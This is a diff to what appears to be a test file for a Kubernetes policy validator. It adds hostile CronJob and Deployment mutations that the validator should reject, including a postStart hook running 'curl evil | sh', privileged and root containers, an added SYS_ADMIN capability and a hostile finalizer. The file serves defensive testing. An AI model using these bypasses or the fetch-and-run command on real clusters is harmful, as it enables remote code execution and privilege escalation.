@@ -164,6 +164,21 @@ HOSTILE_CRONJOBS = {
     "no kvtier labels": lambda c: c["metadata"].pop("labels"),
     "another component": lambda c: c["metadata"]["labels"].update(
         {"kvtier.dev/component": "router"}),
+    # a review's bypasses: the image's own shell through a hook, privilege, root, a node
+    "a postStart hook": lambda c: _pod(c)["containers"][0].update(lifecycle={
+        "postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
+    "a liveness probe": lambda c: _pod(c)["containers"][0].update(livenessProbe={
+        "exec": {"command": ["sh", "-c", "id"]}}),
+    "privileged": lambda c: _pod(c)["containers"][0]["securityContext"].update(
+        privileged=True),
+    "escalation allowed": lambda c: _pod(c)["containers"][0]["securityContext"].update(
+        allowPrivilegeEscalation=True),
+    "root container": lambda c: _pod(c)["containers"][0]["securityContext"].update(runAsUser=0),
+    "root pod": lambda c: _pod(c)["securityContext"].update(runAsUser=0),
+    "root allowed": lambda c: _pod(c)["securityContext"].update(runAsNonRoot=False),
+    "added capability": lambda c: _pod(c)["containers"][0]["securityContext"].update(
+        capabilities={"add": ["SYS_ADMIN"]}),
+    "a chosen node": lambda c: _pod(c).update(nodeName="gpu-node-1"),
 }
 
 
@@ -255,6 +270,9 @@ HOSTILE_UPDATES = {
         "annotations", {}).update({"sidecar.istio.io/inject": "false"}),
     "scaled": lambda d: d["spec"].update(replicas=0),
     "paused": lambda d: d["spec"].update(paused=True),
+    "an owner to collect it": lambda d: d["metadata"].update(ownerReferences=[{
+        "apiVersion": "v1", "kind": "ConfigMap", "name": "doomed", "uid": "u-9"}]),
+    "a finalizer": lambda d: d["metadata"].update(finalizers=["evil.example/hold"]),
 }
 
 
